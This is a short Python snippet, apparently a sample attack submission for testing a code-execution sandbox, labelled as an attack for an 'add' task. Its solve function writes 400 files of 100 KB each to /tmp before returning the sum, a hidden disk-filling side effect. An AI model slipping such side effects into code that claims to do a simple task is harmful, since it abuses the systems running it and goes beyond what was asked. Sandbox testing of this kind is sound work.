# Attack: no file is large, but there are many.
# task: add


def solve(a, b):
    for number in range(400):
        with open(f"/tmp/part{number}", "wb") as file:
            file.write(b"x" * 100_000)
    return a + b
